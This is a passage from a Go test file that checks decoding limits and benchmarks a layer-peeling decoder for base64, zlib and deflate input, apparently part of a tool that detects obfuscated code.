		l := PeelHinted(tt.in, tt.hints, DefaultLimits())
		var got []string
		if l != nil {
			got = l.Chain
		}
		if !reflect.DeepEqual(got, tt.chain) {
			t.Errorf("%s: PeelHinted = %v", tt.name, got)
		}
	}
}

func rawDeflate(b []byte) []byte {
	z := encZlib(b)
	return z[2 : len(z)-4]
}

func TestPeelLimits(t *testing.T) {
	in := build([]byte(code), []string{"base64", "zlib"})
	if l := Peel(in, Limits{MaxTotal: 10}); l != nil {
		t.Errorf("MaxTotal 10: %v", l.Chain)
	}
	// A bomb behind base64: the layer is truncated at MaxOutput.
	bomb := encB64(encZlib(bytes.Repeat([]byte("import os\n"), 1<<20)))
	l := Peel(bomb, Limits{MaxOutput: 1 << 16})
	if l == nil || len(l.Data) != 1<<16 || !l.Text {
		t.Fatalf("bomb: %+v", l)
	}
	// Base-N output above MaxOutput is refused.
	if l := Peel(encB64(bytes.Repeat([]byte("import os\n"), 1000)), Limits{MaxOutput: 1000}); l != nil {
		t.Errorf("MaxOutput: %v", l.Chain)
	}
}

func TestDefaultLimits(t *testing.T) {
	if d := DefaultLimits(); d.MaxDepth != 8 || d.MaxOutput != 8<<20 || d.MaxTotal != 32<<20 {
		t.Errorf("DefaultLimits = %+v", d)
	}
	if n := (Limits{}).norm(); n != DefaultLimits() {
		t.Errorf("zero Limits norm = %+v", n)
	}
}

// --- benchmarks --------------------------------------------------------------

func BenchmarkPeelPlainText(b *testing.B) {
	in := []byte("Please report bugs to the issue tracker; include the version number, your platform and a minimal reproduction of the problem you are seeing.")
	b.SetBytes(int64(len(in)))
	b.ReportAllocs()
	for b.Loop() {
		if Peel(in, DefaultLimits()) != nil {
			b.Fatal("unexpected layer")
		}
	}
}

func BenchmarkPeelIdentifier(b *testing.B) {
	in := []byte("AbstractSingletonProxyFactoryBeanWithQualifiedName")
	b.SetBytes(int64(len(in)))
	b.ReportAllocs()
	for b.Loop() {
		if Peel(in, DefaultLimits()) != nil {
			b.Fatal("unexpected layer")
		}
	}
}

func BenchmarkPeelSHA256Hex(b *testing.B) {
	in := []byte(fmt.Sprintf("%x", sha256.Sum256([]byte("x"))))
	b.SetBytes(int64(len(in)))
	b.ReportAllocs()
	for b.Loop() {
		if Peel(in, DefaultLimits()) != nil {
			b.Fatal("unexpected layer")
		}
	}
}

func BenchmarkPeelBase64Zlib(b *testing.B) {
	in := build([]byte(strings.Repeat(code, 8)), []string{"base64", "zlib"})
	b.SetBytes(int64(len(in)))
	b.ReportAllocs()
	for b.Loop() {
		if l := Peel(in, DefaultLimits()); l == nil || len(l.Chain) != 2 {
			b.Fatal("not peeled")
		}
	}
}

func BenchmarkPeelBase64Asset(b *testing.B) {
	// A 48 KiB embedded binary asset (as in JS bundles): decoded, then
	// rejected.
	rnd := make([]byte, 48<<10)
	rand.New(rand.NewSource(3)).Read(rnd)
	in := encB64(append([]byte("\x89PNG\r\n\x1a\n"), rnd...))
	b.SetBytes(int64(len(in)))
	b.ReportAllocs()
	for b.Loop() {
		if Peel(in, DefaultLimits()) != nil {
			b.Fatal("unexpected layer")
		}
	}
}
